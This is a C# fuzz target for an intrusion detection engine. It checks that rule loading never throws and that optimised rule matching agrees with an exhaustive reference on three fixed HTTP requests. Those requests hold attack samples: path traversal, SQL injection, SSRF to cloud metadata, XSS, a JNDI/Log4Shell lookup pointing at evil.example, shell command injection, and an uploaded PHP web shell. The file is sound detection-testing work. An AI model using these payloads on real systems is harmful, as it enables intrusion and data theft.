using System.Buffers;
using System.Net;
using System.Text;
using EastWestIds.Engine.Inspection;
using EastWestIds.Engine.Signatures;
using EastWestIds.Http.Http1;
using EastWestIds.Signatures;
using EastWestIds.Signatures.Compilation;

namespace EastWestIds.Fuzz;

/// <summary>
/// Any bytes as a rule file an analyst brings. Loading must answer with a set or with errors that name a line of the
/// file, never throw; a set that compiles must match three fixed requests exactly as the exhaustive reference does
/// (every rule on every value by its steps alone, <see cref="SignatureCompilerOptions.Exhaustive"/>), so the
/// prefilter, gates and shortcuts are checked on rules nobody wrote by hand.
/// </summary>
internal sealed class RulesTarget : IFuzzTarget
{
    internal static readonly string[] Requests =
    [
        "GET /api/v1/items/../../etc/passwd?q=1%27%20UNION%20SELECT%20password%20FROM%20users--&next=http://169.254.169.254/latest HTTP/1.1\r\n" +
        "Host: orders-shadow:8080\r\nUser-Agent: sqlmap/1.7\r\nCookie: session=abc; theme=<script>alert(1)</script>\r\n" +
        "Referer: http://evil.example/?x=${jndi:ldap://x/a}\r\n" +
        "x-forwarded-client-cert: By=spiffe://cluster.local/ns/ewids-system/sa/ewids;Hash=e40c;Subject=\"\";URI=spiffe://cluster.local/ns/shop/sa/frontend\r\n\r\n",
        "POST /api/v1/orders HTTP/1.1\r\nHost: orders.shop.svc.cluster.local\r\nContent-Type: application/json\r\nContent-Length: {LEN}\r\n" +
        "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.\r\n\r\n" +
        "{\"name\":\"O'Brien\",\"cmd\":\";cat /etc/passwd\",\"tpl\":\"{{7*7}}\",\"x\":{\"$where\":\"1==1\"}}\n",
        "POST /upload HTTP/1.1\r\nHost: files\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: {LEN}\r\n\r\n" +
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n",
    ];

    private readonly MirroredRequest[] _requests;
    private readonly InspectionContext _context = new();
    private readonly SignatureWorker _fast = new();
    private readonly SignatureWorker _reference = new();

    public RulesTarget()
    {
        _requests = [.. Requests.Select(Frame)];
    }

    public string Name => "rules";

    public void Run(ReadOnlySpan<byte> input)
    {
        string text = Encoding.UTF8.GetString(input);
        var fast = SignatureSetLoader.LoadTexts([("fuzz.rules", text)], FuzzOptions.Compiler);
        int lines = text.Count(c => c == '\n') + 1;
        foreach (var error in fast.Errors.Concat(fast.Warnings))
        {
            if (error.Line < 0 || error.Line > lines || error.Column < 0 || string.IsNullOrWhiteSpace(error.Message) || error.File != "fuzz.rules")
            {
                throw new FuzzInvariantException($"a load error that names no line of the file ({lines} lines): {error}");
            }
        }

        if (fast.Set is null)
        {
            if (fast.Errors.Count == 0)
            {
                throw new FuzzInvariantException("no set and no error");
            }

            return;
        }

        var reference = ExhaustiveReference(fast.Set);

        for (int i = 0; i < _requests.Length; i++)
        {
            string got = Matches(_fast, fast.Set, i);
            string want = Matches(_reference, reference, i);
            if (got != want)
            {
                throw new FuzzInvariantException($"request {i} ({Encoding.ASCII.GetString(_requests[i].Target)}): matched\n{got}\nthe exhaustive reference matched\n{want}");
            }
        }
    }

    /// <summary>The same rules compiled without any shortcut: every rule on every value by its steps alone.</summary>
    internal static EastWestIds.Signatures.Matching.CompiledSignatureSet ExhaustiveReference(EastWestIds.Signatures.Matching.CompiledSignatureSet set)
    {
        var reference = SignatureCompiler.Compile([.. set.Signatures.Select(s => s.Config)], FuzzOptions.Compiler with { Exhaustive = true });
        return reference.Set ?? throw new FuzzInvariantException($"the set compiled, its exhaustive reference did not: {string.Join("; ", reference.Errors)}");
    }

    /// <summary>What <paramref name="set"/> matches in fixed request <paramref name="request"/>: one sorted line per match, with its evidence.</summary>
    internal string Matches(SignatureWorker worker, EastWestIds.Signatures.Matching.CompiledSignatureSet set, int request)
    {
        _context.Reset();
        worker.View.Reset(_requests[request], _context);
        worker.Buffers.Reset(worker.View);
        var matcher = worker.MatcherFor(set);
        matcher.Inspect(worker.Buffers);
        var lines = new List<string>();
        foreach (var match in matcher.Matches)
        {
            lines.Add($"{match.Signature.Sid} {match.Buffer} #{match.ValueIndex} @{match.Offset}+{match.Length} {match.Evidence}");
        }

        lines.Sort(StringComparer.Ordinal);
        return string.Join('\n', lines);
    }

    private static MirroredRequest Frame(string wire)
    {
        int body = wire.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        wire = wire.Replace("{LEN}", (wire.Length - body).ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);
        var request = new MirroredRequest { PeerAddress = IPAddress.Loopback, PeerPort = 40000, LocalAddress = IPAddress.Loopback, LocalPort = 8080 };
        var reader = new SequenceReader<byte>(new ReadOnlySequence<byte>(Encoding.ASCII.GetBytes(wire)));
        var capture = new MirroredRequestCapture(request, 64 * 1024);
        if (new Http1RequestParser(HttpLimits.Default).Parse(ref reader, ref capture) != ParseStatus.Complete)
        {
            throw new InvalidOperationException($"a fixed request of the rules target does not frame: {wire[..40]}");
        }

        return request;
    }
}
